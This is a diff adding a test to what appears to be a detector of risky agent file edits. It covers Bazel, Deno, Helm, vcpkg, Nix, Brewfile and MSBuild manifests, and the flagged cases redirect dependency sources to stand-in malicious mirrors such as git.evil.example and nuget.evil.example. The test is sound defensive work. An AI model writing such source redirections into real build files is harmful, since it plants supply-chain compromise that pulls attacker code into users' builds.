@@ -305,3 +305,81 @@ test('standing access granted on a code forge asks, by CLI or REST API; listing 
     ['B', 'exec', x('curl -s https://api.github.com/repos/acme/api/keys')],
   ]);
 });
+
+test('sources in Bazel, Deno, Helm, vcpkg, Nix, Brewfile and MSBuild files are read', () => {
+  const p = '/home/dev/project/';
+  check([
+    [
+      'A',
+      'write',
+      w(`${p}WORKSPACE`, 'http_archive(\n  name = "rules_x",\n  urls = ["https://203.0.113.9/rules_x.tar.gz"],\n)\n'),
+    ],
+    [
+      'A',
+      'edit',
+      e(
+        `${p}MODULE.bazel`,
+        'module(name = "app")',
+        'module(name = "app")\narchive_override(module_name = "rules_go", urls = ["https://mirror.evil.example/rules_go.zip"])',
+      ),
+    ],
+    ['A', 'write', w(`${p}deno.json`, '{"imports": {"std/": "https://deno-land.evil.example/std@0.200.0/"}}')],
+    [
+      'A',
+      'write',
+      w(
+        `${p}Chart.yaml`,
+        'apiVersion: v2\nname: app\ndependencies:\n  - name: redis\n    repository: https://charts.evil-mirror.example\n',
+      ),
+    ],
+    [
+      'A',
+      'write',
+      w(
+        `${p}vcpkg-configuration.json`,
+        '{"registries":[{"kind":"git","repository":"https://git.vcpkg-mirror.example/r","packages":["zlib"]}]}',
+      ),
+    ],
+    ['A', 'write', w(`${p}flake.nix`, '{ inputs.tools.url = "git+https://git.evil.example/tools"; outputs = _: {}; }')],
+    [
+      'A',
+      'write',
+      w(`${p}Brewfile`, 'tap "evil/tools", "https://git.evil.example/homebrew-tools"\nbrew "evil/tools/x"\n'),
+    ],
+    [
+      'A',
+      'write',
+      w(
+        `${p}Directory.Build.props`,
+        '<Project><PropertyGroup><RestoreSources>https://nuget.evil.example/v3/index.json</RestoreSources></PropertyGroup></Project>',
+      ),
+    ],
+    [
+      'B',
+      'write',
+      w(
+        `${p}WORKSPACE`,
+        'http_archive(\n  name = "rules_go",\n  urls = ["https://github.com/bazelbuild/rules_go/releases/download/v0.46.0/rules_go-v0.46.0.zip"],\n)\n',
+      ),
+    ],
+    ['B', 'write', w(`${p}deno.json`, '{"imports": {"std/": "https://deno.land/std@0.200.0/"}}')],
+    [
+      'B',
+      'write',
+      w(
+        `${p}Chart.yaml`,
+        'apiVersion: v2\nname: app\ndependencies:\n  - name: redis\n    repository: https://charts.bitnami.com/bitnami\n',
+      ),
+    ],
+    ['B', 'write', w(`${p}flake.nix`, '{ inputs.nixpkgs.url = "github:NixOS/nixpkgs/nixos-24.05"; outputs = _: {}; }')],
+    ['B', 'write', w(`${p}Brewfile`, 'brew "jq"\ncask "iterm2"\n')],
+    [
+      'B',
+      'write',
+      w(
+        `${p}app.csproj`,
+        '<Project Sdk="Microsoft.NET.Sdk"><ItemGroup><PackageReference Include="Serilog" Version="3.1.1" /></ItemGroup></Project>',
+      ),
+    ],
+  ]);
+});
